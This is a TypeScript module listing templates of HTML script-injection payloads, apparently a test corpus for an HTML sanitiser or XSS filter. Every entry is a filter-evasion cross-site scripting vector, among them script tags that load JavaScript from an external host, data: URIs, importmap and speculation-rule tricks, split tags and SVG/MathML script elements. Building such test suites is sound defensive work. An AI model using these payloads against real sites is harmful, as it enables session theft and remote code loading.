import type {Family} from "./family.js"

/// Script elements, and what hides them from a filter that looks at the text.
export const scripts: Family = ({run, host}) => [
  `<script>${run}</script>`,
  `<script type=module>${run}</script>`,
  `<script src=//${host}/a.js></script>`,
  `<script src="data:text/javascript,${run}"></script>`,
  `<script type="speculationrules">{"prefetch":[{"urls":["http://${host}/p"]}]}</script>`,
  `<script type="importmap">{"imports":{"a":"http://${host}/a.js"}}</script><script type=module>import "a"</script>`,
  `<script><!--\n${run}\n//--></script>`,
  `<scr<script></script>ipt>${run}</scr</script>ipt>`,
  `<<script>${run}//<</script>`,
  `<p>Bridge</p><script>${run}`,
  `<!doctype html><html><head><script>${run}</script></head><body>Bridge</body></html>`,
  `<noscript><script>${run}</script></noscript>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="data:text/javascript,${run}"/></svg>`,
  `<math><script>${run}</script></math>`,
]
